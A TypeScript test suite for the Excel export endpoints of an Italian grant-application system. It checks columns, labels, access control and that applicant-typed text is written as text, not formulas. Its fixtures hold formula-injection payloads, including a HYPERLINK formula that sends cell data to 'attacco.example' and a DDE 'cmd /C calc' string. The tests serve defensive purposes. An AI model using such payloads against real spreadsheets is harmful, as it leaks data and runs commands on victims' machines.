import { readFile } from 'node:fs/promises';
import { PassThrough } from 'node:stream';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createTestApp, type TestApp } from '../support/testApp.ts';
import { personWithOrganization } from '../support/organizationFixtures.ts';
import { forceApplicationStatus } from '../support/applicationFixtures.ts';
import { loadWorkbookWriter } from '../../server/exports/excel.ts';
import { zipInputOf } from '../../server/exports/applicationsWorkbook.ts';
import { turWizardDefinition } from '../../domain/tur/turWizard.ts';

let t: TestApp;
let admin: { token: string };
let applicant: Awaited<ReturnType<typeof personWithOrganization>>;
let dangerousId: string;
let plainId: string;
let puiId: string;
let otherOrgId: string;
let namedOrgId: string;

/** Text a spreadsheet would evaluate if it were written as a formula or typed into a cell. */
const injections = {
  progNome: '=HYPERLINK("http://attacco.example/?d="&A1,"Clicca qui")',
  descrizione: '+39 06 1234567',
  costiNomeCofinanziamento: '-2+3',
  progComune: "@SUM(1+1)*cmd|' /C calc'!A0",
  progAreaTematica: '\tTabulazione iniziale',
  tempiDescrizione: '\rRitorno a capo iniziale',
};

beforeAll(async () => {
  t = await createTestApp();
  admin = await t.loginAsAdmin();
  applicant = await personWithOrganization(t, { name: '=Comune di Formula' });
  const other = await personWithOrganization(t, { name: 'Comune di Borgo Sereno' });
  otherOrgId = other.orgId;
  dangerousId = await forceApplicationStatus(t, applicant.orgId, 'TUR', 'CANDIDATURA_SOTTOMESSA', {
    body: {
      ...injections,
      costiIintervento: 2_500_000.5,
      progInherentPui: true,
      tipoIntervento: ['Restauro', '=1+1'],
      costiTecnicaIntervento: 'Equity',
      tempiInizioLavori: '2026-03-01',
      turSurveyDto: {
        piantumazioni: 'true',
        numeroPiantumazioni: 120,
        tipoAutorizzazione: 'Permesso di costruire',
        ristrutturazione: 'true',
        mqSLP: 1250.5,
        tipoInterventoPrevisione: 4,
        classeEnergeticaPartenza: 'G',
        classeEnergeticaRaggiunta: 'A+',
        housing: 'false',
        numeroPostiLetto: 48,
        postiLetto: 'true',
        smartSolution: 'true',
        tipoSmartSolution: 'Sensori per i consumi idrici',
      },
    },
    warnings: ['=Avviso che sembra una formula', 'Quota del fondo superiore al 50% del totale'],
    submittedAt: new Date('2026-04-15T08:30:00Z'),
  });
  plainId = await forceApplicationStatus(t, other.orgId, 'TUR', 'APERTA', { draft: { progNome: 'Sentiero delle vigne' } });
  puiId = await forceApplicationStatus(t, other.orgId, 'PUI', 'CANDIDATURA_SOTTOMESSA', { body: { progNome: 'Non nel file TUR' } });
  // Answers chosen from reference lists, as the wizards store them: ISTAT codes (TUR as strings) and list ids.
  const named = await personWithOrganization(t, { name: 'Comune di Tivoli' });
  namedOrgId = named.orgId;
  await forceApplicationStatus(t, namedOrgId, 'TUR', 'CANDIDATURA_SOTTOMESSA', {
    body: {
      progNome: 'Villa d\u2019Este accessibile',
      progRegione: '12',
      progProvincia: '58',
      progComune: '58104',
      progAreaTematica: 3,
      tempiLivello: 2,
    },
  });
  await forceApplicationStatus(t, namedOrgId, 'PUI', 'CANDIDATURA_SOTTOMESSA', {
    body: {
      progNome: 'Parco lineare dell\u2019Aniene',
      progCittaMetropolitana: 258,
      progComune: 58104,
      // Lazio, by its ISTAT code: the workbook shows its name.
      progRegione: '12',
      puiRiferimento: [25801, 25802],
      finalitaGenerale: 2,
      obbGenerale: 0,
      obbSpecifico: [1, 2],
      tipoIntervento: [1, 3],
      tempiLivello: 4,
    },
  });
});
afterAll(() => t.close());

function download(body: unknown, token?: string) {
  return t.app.inject({
    method: 'POST',
    url: '/api/DraftCompilazione/DownloadExcelCompilazioni',
    headers: token ? { authorization: `Bearer ${token}` } : {},
    payload: body as object,
  });
}

/** The list's header of a TUR field: its Italian label. */
function labelOf(name: string) {
  return turWizardDefinition.fields.find((field) => field.name === name)!.label;
}

async function readBack(buffer: Buffer) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(buffer as unknown as ArrayBuffer);
  const sheet = workbook.worksheets[0]!;
  const headers = (sheet.getRow(1).values as unknown[]).slice(1).map(String);
  const rows: Map<string, ExcelJS.Cell>[] = [];
  for (let r = 2; r <= sheet.rowCount; r++) {
    const row = sheet.getRow(r);
    rows.push(new Map(headers.map((h, i) => [h, row.getCell(i + 1)])));
  }
  return { sheet, headers, rows };
}

describe('POST /api/DraftCompilazione/DownloadExcelCompilazioni', () => {
  it('streams Lista-candidature-TUR.xlsx with the chosen TUR applications, by organisation name', async () => {
    const response = await download({ compilazioniId: [plainId, dangerousId, puiId], callType: 'TUR' }, admin.token);
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(response.headers['content-disposition']).toBe('attachment; filename="Lista-candidature-TUR.xlsx"');
    expect(response.headers['transfer-encoding']).toBe('chunked');

    const { headers, rows } = await readBack(response.rawPayload);
    expect(headers.slice(0, 12)).toEqual([
      'Organizzazione',
      'P.IVA',
      'E-mail',
      'Stato',
      'Numero di protocollo',
      'Accettazione del server',
      'Data candidatura',
      'Ultimo cambio di stato',
      'Avvisi',
      'Dati',
      'Firmatario della domanda',
      'Data della firma della domanda',
    ]);
    expect(rows).toHaveLength(2);
    expect(rows.map((r) => r.get('Organizzazione')!.value)).toEqual(['=Comune di Formula', 'Comune di Borgo Sereno']);
    const [dangerous, plain] = rows as [Map<string, ExcelJS.Cell>, Map<string, ExcelJS.Cell>];
    expect(dangerous.get('Stato')!.value).toBe('Candidatura Sottomessa');
    expect(dangerous.get('Dati')!.value).toBe('Candidatura');
    // 08:30 UTC in April is 10:30 in Italy.
    expect((dangerous.get('Data candidatura')!.value as Date).toISOString()).toBe('2026-04-15T10:30:00.000Z');
    expect(dangerous.get('Intervento richiesto al Fondo')!.value).toBe(2_500_000.5);
    expect(dangerous.get('Il progetto prevede la piantumazione di alberi?')!.value).toBe('Sì');
    // Keys the fund's definition does not have are no columns of the list.
    expect(headers).not.toContain('progInherentPui');
    expect(plain.get('Dati')!.value).toBe('Bozza');
    expect(plain.get('Nome del progetto')!.value).toBe('Sentiero delle vigne');
    expect(headers).not.toContain('Non nel file TUR');
  });

  it('writes every cell that starts with =, +, -, @, tab or CR as text, never as a formula', async () => {
    const response = await download({ compilazioniId: [dangerousId], callType: 0 }, admin.token);
    const { rows } = await readBack(response.rawPayload);
    const row = rows[0]!;
    const cells: [ExcelJS.Cell, string][] = [
      [row.get('Organizzazione')!, '=Comune di Formula'],
      [row.get('Avvisi')!, '=Avviso che sembra una formula\nQuota del fondo superiore al 50% del totale'],
      ...Object.entries(injections).map(([key, text]): [ExcelJS.Cell, string] => [row.get(labelOf(key))!, text]),
    ];
    for (const [cell, text] of cells) {
      expect(cell.type, text).toBe(ExcelJS.ValueType.String);
      expect(cell.formula, text).toBeUndefined();
      expect(cell.numFmt, text).toBe('@');
      // XML parsers turn a lone CR into a line feed: the text is otherwise kept exactly.
      expect(String(cell.value).replace(/^\n/, '\r'), text).toBe(text);
    }
  });

  it('accepts PUI by name or by compilazioneType and leaves TUR ids out', async () => {
    const response = await download({ compilazioniId: [puiId, dangerousId], callType: 'pui' }, admin.token);
    expect(response.headers['content-disposition']).toBe('attachment; filename="Lista-candidature-PUI.xlsx"');
    const { rows } = await readBack(response.rawPayload);
    expect(rows.map((r) => r.get('Nome del progetto')!.value)).toEqual(['Non nel file TUR']);
  });

  it('refuses applicants (403) and anonymous callers (401); 400 for no ids or an unknown fund', async () => {
    const forbidden = await download({ compilazioniId: [dangerousId], callType: 'TUR' }, applicant.token);
    expect(forbidden.statusCode).toBe(403);
    expect(forbidden.json().message).toBe('Non hai i permessi per questa operazione.');
    expect((await download({ compilazioniId: [dangerousId], callType: 'TUR' })).statusCode).toBe(401);
    expect((await download({ compilazioniId: [], callType: 'TUR' }, admin.token)).statusCode).toBe(400);
    const unknownFund = await download({ compilazioniId: [dangerousId], callType: 'FESR' }, admin.token);
    expect(unknownFund.statusCode).toBe(400);
    expect(unknownFund.json().message).toBe('Fondo non valido: indicare TUR o PUI.');
    expect((await download({ compilazioniId: ['non-un-id'], callType: 'TUR' }, admin.token)).statusCode).toBe(400);
  });
});

describe('GET /api/DraftCompilazione/DownloadExcelCompilazione (one application)', () => {
  function downloadOne(query: Record<string, string>, token?: string) {
    return t.app.inject({
      method: 'GET',
      url: `/api/DraftCompilazione/DownloadExcelCompilazione?${new URLSearchParams(query)}`,
      headers: token ? { authorization: `Bearer ${token}` } : {},
    });
  }

  /** The facts on top (label → value) and the field rows (spec field name → [place, label, answer cell]). */
  async function readApplication(buffer: Buffer) {
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(buffer as unknown as ArrayBuffer);
    const sheet = workbook.worksheets[0]!;
    const facts = new Map<string, ExcelJS.Cell>();
    const fields = new Map<string, { place: string; label: string; answer: ExcelJS.Cell }>();
    let inFields = false;
    sheet.eachRow((row) => {
      const first = String(row.getCell(1).value ?? '');
      if (first === 'Sezione') {
        inFields = true;
        expect([2, 3, 4].map((c) => row.getCell(c).value)).toEqual(['Campo', 'Valore', 'Nome del campo']);
        return;
      }
      if (inFields) fields.set(String(row.getCell(4).value), { place: first, label: String(row.getCell(2).value), answer: row.getCell(3) });
      else facts.set(first, row.getCell(2));
    });
    return { sheet, facts, fields };
  }

  it('streams CandidaturaTur-{orgName}.xlsx with every field of the fund, Italian labels and the answers', async () => {
    const response = await downloadOne({ orgId: applicant.orgId, callType: 'TUR' }, admin.token);
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(response.headers['content-disposition']).toContain('filename="CandidaturaTur-=Comune di Formula.xlsx"');
    expect(response.headers['transfer-encoding']).toBe('chunked');

    const { sheet, facts, fields } = await readApplication(response.rawPayload);
    expect(sheet.name).toBe('Candidatura TUR');
    expect(facts.get('Organizzazione')!.value).toBe('=Comune di Formula');
    expect(facts.get('Stato')!.value).toBe('Candidatura Sottomessa');
    expect(facts.get('Dati')!.value).toBe('Candidatura');
    expect((facts.get('Data candidatura')!.value as Date).toISOString()).toBe('2026-04-15T10:30:00.000Z');

    // One row per field of the TUR definition, in the wizard's order, each with its label.
    expect([...fields.keys()]).toEqual(turWizardDefinition.fields.map((field) => field.name));
    expect(fields.get('progNome')).toMatchObject({ place: 'Progetto', label: 'Nome del progetto' });
    expect(fields.get('costiIintervento')!.answer.value).toBe(2_500_000.5);
    expect(fields.get('costiTecnicaIntervento')!.answer.value).toBe('Equity');
    expect(fields.get('costiTecnicaIntervento')!.label).toBe('Forma tecnica dell\u2019intervento');
    // A yes/no answer reads Sì / No, a day is a date cell.
    expect(fields.get('turSurveyDto.piantumazioni')!.answer.value).toBe('Sì');
    expect(fields.get('turSurveyDto.numeroPiantumazioni')!.answer.value).toBe(120);
    // The indicators PUI asks too (domain/impactIndicators.ts): their own rows, sections and labels, choices by name.
    expect(fields.get('turSurveyDto.tipoAutorizzazione')).toMatchObject({
      place: "Valutazione d'Impatto — Autorizzazioni",
      label: 'Tipo di autorizzazione',
    });
    expect(fields.get('turSurveyDto.tipoAutorizzazione')!.answer.value).toBe('Permesso di costruire');
    expect(fields.get('turSurveyDto.ristrutturazione')).toMatchObject({
      place: "Valutazione d'Impatto — Ristrutturazione di edifici",
      label: 'Il progetto prevede la ristrutturazione di edifici?',
    });
    expect(fields.get('turSurveyDto.ristrutturazione')!.answer.value).toBe('Sì');
    expect(fields.get('turSurveyDto.mqSLP')!.answer.value).toBe(1250.5);
    expect(fields.get('turSurveyDto.tipoInterventoPrevisione')!.answer.value).toBe('Restauro');
    expect(fields.get('turSurveyDto.classeEnergeticaPartenza')!.answer.value).toBe('G (oltre 160 kWh/m² anno)');
    expect(fields.get('turSurveyDto.classeEnergeticaRaggiunta')!.answer.value).toBe('A+ (fino a 15 kWh/m² anno)');
    expect(fields.get('turSurveyDto.housing')!.answer.value).toBe('No');
    expect(fields.get('turSurveyDto.numeroPostiLetto')).toMatchObject({ label: 'Numero di posti letto' });
    expect(fields.get('turSurveyDto.numeroPostiLetto')!.answer.value).toBe(48);
    expect(fields.get('turSurveyDto.tipoSmartSolution')!.answer.value).toBe('Sensori per i consumi idrici');
    for (const name of ['quantitaFER', 'superficieCopertaEsistente', 'superficieVerdeAggiunta', 'canoniLocazione', 'prezziCompravendita']) {
      expect(fields.has(`turSurveyDto.${name}`), name).toBe(true);
    }
    expect(fields.get('turSurveyDto.quantitaFER')!.answer.value).toBeNull();
    expect((fields.get('tempiInizioLavori')!.answer.value as Date).toISOString()).toBe('2026-03-01T00:00:00.000Z');
    expect(fields.get('tempiInizioLavori')!.answer.numFmt).toBe('dd/mm/yyyy');
    // A field nobody answered is a blank cell, not "null".
    expect(fields.get('progProvincia')!.answer.value).toBeNull();
  });

  /** A reference file of server/reference/lists, read here as the operator wrote it: id → name. */
  async function referenceNames(file: string) {
    const items = JSON.parse(await readFile(new URL(`../../server/reference/lists/${file}`, import.meta.url), 'utf8')) as {
      id: number;
      name: string;
    }[];
    return (id: number) => {
      const item = items.find((candidate) => candidate.id === id);
      if (!item) throw new Error(`${file} has no id ${id}`);
      return item.name;
    };
  }

  it('shows the names of answers chosen from reference lists, as the wizard does (TUR)', async () => {
    const response = await downloadOne({ orgId: namedOrgId, callType: 'TUR' }, admin.token);
    expect(response.statusCode).toBe(200);
    const { fields } = await readApplication(response.rawPayload);
    const answer = (name: string) => fields.get(name)!.answer.value;
    // ISTAT: region 12, province 058, comune 058104.
    expect(answer('progRegione')).toBe('Lazio');
    expect(answer('progProvincia')).toBe('Roma');
    expect(answer('progComune')).toBe('Tivoli');
    expect(answer('progAreaTematica')).toBe((await referenceNames('tur/areeTematiche.json'))(3));
    expect(answer('tempiLivello')).toBe((await referenceNames('livelliProgettazione.json'))(2));
    expect(answer('tempiLivello')).toBe('PFTE');
  });

  it('shows the names of answers chosen from reference lists, as the wizard does (PUI)', async () => {
    const response = await downloadOne({ orgId: namedOrgId, callType: 'PUI' }, admin.token);
    expect(response.statusCode).toBe(200);
    expect(response.headers['content-disposition']).toContain('filename="CandidaturaPui-Comune di Tivoli.xlsx"');
    const { fields } = await readApplication(response.rawPayload);
    const answer = (name: string) => fields.get(name)!.answer.value;
    const plans = await referenceNames('pui/riferimentiPui.json');
    const specific = await referenceNames('pui/obiettiviSpecifici.json');
    const types = await referenceNames('tipologieProgettiFinanziabili.json');
    expect(answer('progCittaMetropolitana')).toBe((await referenceNames('cittaMetropolitane.json'))(258));
    expect(answer('progCittaMetropolitana')).toBe('Roma');
    expect(answer('progComune')).toBe('Tivoli');
    expect(answer('progRegione')).toBe('Lazio');
    expect(answer('puiRiferimento')).toBe(`${plans(25801)}; ${plans(25802)}`);
    expect(answer('finalitaGenerale')).toBe((await referenceNames('pui/finalitaGenerali.json'))(2));
    expect(answer('obbGenerale')).toBe('Ambiente');
    expect(answer('obbSpecifico')).toBe(`${specific(1)}; ${specific(2)}`);
    expect(answer('tipoIntervento')).toBe(`${types(1)}; ${types(3)}`);
    expect(answer('tempiLivello')).toBe((await referenceNames('livelliProgettazione.json'))(4));
    // No answer of a reference list is left as a bare id.
    const { puiWizardDefinition } = await import('../../domain/pui/puiWizard.ts');
    for (const field of puiWizardDefinition.fields.filter((candidate) => candidate.source)) {
      expect(String(answer(field.name) ?? ''), field.name).not.toMatch(/^[\d,; ]+$/);
    }
  });

  it('writes what the applicant typed as text, never as a formula', async () => {
    const response = await downloadOne({ orgId: applicant.orgId, callType: '0' }, admin.token);
    const { facts, fields } = await readApplication(response.rawPayload);
    const cells: [ExcelJS.Cell, string][] = [
      [facts.get('Organizzazione')!, '=Comune di Formula'],
      [facts.get('Avvisi')!, '=Avviso che sembra una formula\nQuota del fondo superiore al 50% del totale'],
      [fields.get('progNome')!.answer, injections.progNome],
      [fields.get('descrizione')!.answer, injections.descrizione],
      [fields.get('costiNomeCofinanziamento')!.answer, injections.costiNomeCofinanziamento],
    ];
    for (const [cell, text] of cells) {
      expect(cell.type, text).toBe(ExcelJS.ValueType.String);
      expect(cell.formula, text).toBeUndefined();
      expect(cell.numFmt, text).toBe('@');
      expect(cell.value, text).toBe(text);
    }
  });

  it('exports the draft while nothing was submitted', async () => {
    const response = await downloadOne({ orgId: otherOrgId, callType: 'tur' }, admin.token);
    expect(response.statusCode).toBe(200);
    const { facts, fields } = await readApplication(response.rawPayload);
    expect(facts.get('Dati')!.value).toBe('Bozza');
    expect(facts.get('Stato')!.value).toBe('Aperta');
    expect(fields.get('progNome')!.answer.value).toBe('Sentiero delle vigne');
  });

  it('refuses applicants (403) and anonymous callers (401); 404 for no application or an unknown organisation; 400 for an unknown fund', async () => {
    const forbidden = await downloadOne({ orgId: applicant.orgId, callType: 'TUR' }, applicant.token);
    expect(forbidden.statusCode).toBe(403);
    expect(forbidden.json().message).toBe('Non hai i permessi per questa operazione.');
    expect((await downloadOne({ orgId: applicant.orgId, callType: 'TUR' })).statusCode).toBe(401);
    const none = await downloadOne({ orgId: applicant.orgId, callType: 'PUI' }, admin.token);
    expect(none.statusCode).toBe(404);
    expect(none.json().message).toBe(
      'Questa organizzazione non ha ancora una candidatura per questo fondo: non c\u2019è nulla da esportare.',
    );
    expect((await downloadOne({ orgId: '00000000-0000-4000-8000-000000000001', callType: 'TUR' }, admin.token)).statusCode).toBe(404);
    expect((await downloadOne({ orgId: 'non-un-id', callType: 'TUR' }, admin.token)).statusCode).toBeLessThan(500);
    const unknownFund = await downloadOne({ orgId: applicant.orgId, callType: 'FESR' }, admin.token);
    expect(unknownFund.statusCode).toBe(400);
    expect(unknownFund.json().message).toBe('Fondo non valido: indicare TUR o PUI.');
  });
});

describe("the list's Excel waits for its compression", () => {
  it('finds the queue where exceljs hands the sheet to its zip, and sees it fill when rows come faster than they are compressed', async () => {
    const WorkbookWriter = await loadWorkbookWriter();
    const out = new PassThrough().resume();
    const workbook = new WorkbookWriter({ stream: out, useStyles: true, useSharedStrings: false });
    const sheet = workbook.addWorksheet('Lista');
    sheet.columns = [{ header: 'Testo', key: 'testo' }];
    sheet.getRow(1).commit();
    const queue = zipInputOf(sheet);
    expect(queue).toBeDefined();
    expect(queue!.full).toBe(false);
    // Without giving the event loop back, nothing is compressed: the queue fills (the pacer would wait for 'drain').
    for (let i = 0; i < 200 && !queue!.full; i++) sheet.addRow([`riga ${i} `.repeat(50)]).commit();
    expect(queue!.full).toBe(true);
    // Once the event loop is given back, the zip takes it and says so: the pacer goes on.
    await new Promise((resolve) => queue!.events.once('drain', resolve));
    expect(queue!.full).toBe(false);
    sheet.commit();
    await workbook.commit();
  });
});
